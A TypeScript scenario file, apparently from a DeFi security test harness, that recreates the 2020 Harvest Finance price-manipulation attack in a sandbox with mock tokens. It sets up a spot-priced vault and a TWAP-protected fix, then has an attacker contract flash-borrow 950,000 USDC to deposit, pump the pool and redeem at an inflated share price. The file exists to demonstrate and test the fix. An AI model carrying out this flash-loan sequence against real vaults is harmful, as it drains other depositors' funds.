import { TWAP_PERIOD } from "../../ignition/modules/Lending.js";
import {
  AmmPair__factory,
  FlashLender__factory,
  MockERC20__factory,
  SpotValuedVault__factory,
  TwapOracle__factory,
  TwapValuedVault__factory,
  VaultManipulationAttacker__factory,
  type AmmPair,
  type MockERC20,
  type SpotValuedVault,
} from "../../typechain-types/index.js";
import { formatAmount } from "./format.js";
import { commonChecks } from "./run.js";
import { send } from "./steps.js";
import type { Holdings, Scenario, World } from "./types.js";

const UNIT = 10n ** 18n;
const USDC_UNIT = 10n ** 6n;

/** The strategy token's pool: 1,000,000 STR at $1. */
export const STRATEGY_POOL = { str: 1_000_000n * UNIT, usdc: 1_000_000n * USDC_UNIT } as const;
/** What alice and bob deposit into the vault. */
export const VAULT_DEPOSITS = { alice: 60_000n * USDC_UNIT, bob: 40_000n * USDC_UNIT } as const;
/** What the vault's owner invests in the strategy token: half of the deposits. */
export const INVESTED = 50_000n * USDC_UNIT;
/** The shipped exploit: deposit 50,000 USDC, pump the pool with 900,000, all flash-borrowed. */
export const ATTACK_DEPOSIT = 50_000n * USDC_UNIT;
export const ATTACK_PUMP = 900_000n * USDC_UNIT;

/** USDC base units for `str` base units at STR's fair price, $1. */
export function strAtFairPrice(str: bigint): bigint {
  return (str * USDC_UNIT) / UNIT;
}

export interface VaultWorld extends World {
  /** The vault under attack (SpotValuedVault or TwapValuedVault: same ABI but for the error). */
  vault: SpotValuedVault;
  pair: AmmPair;
  usdc: MockERC20;
  str: MockERC20;
  depositors: string[];
}

/** The vault's holdings at STR's fair price: what its shares are really worth. */
async function fairAssets(world: VaultWorld): Promise<bigint> {
  const address = await world.vault.getAddress();
  return (await world.usdc.balanceOf(address)) + strAtFairPrice(await world.str.balanceOf(address));
}

/** Sells `amountIn` of `tokenIn` into `pair` from `from`'s faucet-minted tokens (an arbitrageur). */
async function arbitrage(pair: AmmPair, tokenIn: MockERC20, amountIn: bigint, to: string) {
  const [reserve0, reserve1] = await pair.getReserves();
  const inIsToken0 = (await pair.token0()) === (await tokenIn.getAddress());
  const [reserveIn, reserveOut] = inIsToken0 ? [reserve0, reserve1] : [reserve1, reserve0];
  const out = (amountIn * 997n * reserveOut) / (reserveIn * 1000n + amountIn * 997n);
  await send(tokenIn.faucet(await pair.getAddress(), amountIn));
  await send(pair.swap(inIsToken0 ? 0n : out, inIsToken0 ? out : 0n, to, "0x"));
}

/**
 * A vault values its strategy tokens at the pool's spot price: a flash loan deposits, pumps the
 * pool, and withdraws at the inflated share price, taking the difference from the other depositors.
 */
export const vaultPriceManipulation: Scenario<VaultWorld> = {
  name: "vault-price-manipulation",
  title: "Vault price manipulation: a share price read from a pool's spot price",
  incident:
    "Harvest Finance, 2020-10-26: ~$24–34M; flash loans skewed the Curve pool its vaults valued their assets by",
  fix: "strategy valued at the core TwapOracle's average, refused while spot is >2% away from it",

  async setup(env, side) {
    const { actors, sandbox, networkHelpers, log } = env;
    const { deployer } = actors;
    const usdc = MockERC20__factory.connect(await sandbox.usdc.getAddress(), deployer);
    const usdcAddress = await usdc.getAddress();
    const str = await new MockERC20__factory(deployer).deploy("Strategy Token", "STR", 18);
    await str.waitForDeployment();
    const strAddress = await str.getAddress();
    await send(sandbox.factory.createPair(strAddress, usdcAddress));
    const pair = AmmPair__factory.connect(
      await sandbox.factory.getPair(strAddress, usdcAddress),
      deployer,
    );
    const pairAddress = await pair.getAddress();
    await send(str.faucet(pairAddress, STRATEGY_POOL.str));
    await send(usdc.faucet(pairAddress, STRATEGY_POOL.usdc));
    await send(pair.mint(deployer.address));
    log(
      `  the strategy token's pool: ${formatAmount(STRATEGY_POOL.str, 18, "STR")} / ${formatAmount(STRATEGY_POOL.usdc, 6, "USDC")}`,
    );

    let vaultAddress: string;
    if (side === "vulnerable") {
      const vault = await new SpotValuedVault__factory(deployer).deploy(
        deployer.address,
        usdcAddress,
        strAddress,
        pairAddress,
      );
      await vault.waitForDeployment();
      vaultAddress = await vault.getAddress();
    } else {
      const twap = await new TwapOracle__factory(deployer).deploy(pairAddress, TWAP_PERIOD);
      await twap.waitForDeployment();
      await networkHelpers.time.increase(TWAP_PERIOD);
      await send(twap.update());
      const vault = await new TwapValuedVault__factory(deployer).deploy(
        deployer.address,
        usdcAddress,
        strAddress,
        pairAddress,
        await twap.getAddress(),
      );
      await vault.waitForDeployment();
      vaultAddress = await vault.getAddress();
    }
    const vault = SpotValuedVault__factory.connect(vaultAddress, deployer);

    for (const name of ["alice", "bob"] as const) {
      const amount = VAULT_DEPOSITS[name];
      await send(usdc.faucet(actors[name].address, amount));
      await send(usdc.connect(actors[name]).approve(vaultAddress, amount));
      await send(vault.connect(actors[name]).deposit(amount, actors[name].address));
      log(`  ${name} deposits ${formatAmount(amount, 6, "USDC")}`);
    }
    await send(vault.invest(INVESTED, 0n));
    const held = await str.balanceOf(vaultAddress);
    // An arbitrageur sells the same STR back into the pool: its price returns to about $1.
    await arbitrage(pair, str, held, deployer.address);
    log(
      `  the vault invests ${formatAmount(INVESTED, 6, "USDC")} in ${formatAmount(held, 18, "STR")}; an arbitrageur brings the pool back to $1`,
    );

    const world: VaultWorld = {
      side,
      env,
      attacker: actors.attacker,
      contract: side === "vulnerable" ? "SpotValuedVault" : "TwapValuedVault",
      vault,
      pair,
      usdc,
      str,
      depositors: [actors.alice.address, actors.bob.address],
      tracked: {
        asset: { kind: "erc20", symbol: "USDC", decimals: 6, token: usdc },
        attacker: [actors.attacker.address],
        victims: [actors.alice.address, actors.bob.address],
        protocol: vaultAddress,
        victimsClaims: 0n,
        dust: 0n,
      },
      errorInterfaces: [
        TwapValuedVault__factory.createInterface(),
        FlashLender__factory.createInterface(),
        VaultManipulationAttacker__factory.createInterface(),
        pair.interface,
      ],
    };
    return world;
  },

  async exploit(world) {
    const { attacker, vault, pair, str, env } = world;
    const contract = await new VaultManipulationAttacker__factory(attacker).deploy(
      await env.sandbox.flashLender.getAddress(),
      await vault.getAddress(),
      await pair.getAddress(),
      await str.getAddress(),
    );
    await contract.waitForDeployment();
    env.log(
      `  attacker flash-borrows ${formatAmount(ATTACK_DEPOSIT + ATTACK_PUMP, 6, "USDC")}: deposits ${formatAmount(ATTACK_DEPOSIT, 6, "USDC")}, pumps STR with ${formatAmount(ATTACK_PUMP, 6, "USDC")}, redeems, sells back`,
    );
    await send(contract.attack(ATTACK_DEPOSIT, ATTACK_PUMP));
  },

  // The depositors stay in the vault: their shares are marked at STR's fair price in `measure`.
  async settle() {},

  async measure(world): Promise<Holdings> {
    const assets = await fairAssets(world);
    const supply = await world.vault.totalSupply();
    let victims = 0n;
    for (const depositor of world.depositors) {
      const shares = await world.vault.balanceOf(depositor);
      victims += supply === 0n ? 0n : (shares * assets) / supply;
    }
    return {
      attacker: await world.usdc.balanceOf(world.attacker.address),
      victims,
      protocol: assets,
    };
  },

  check: commonChecks,
};
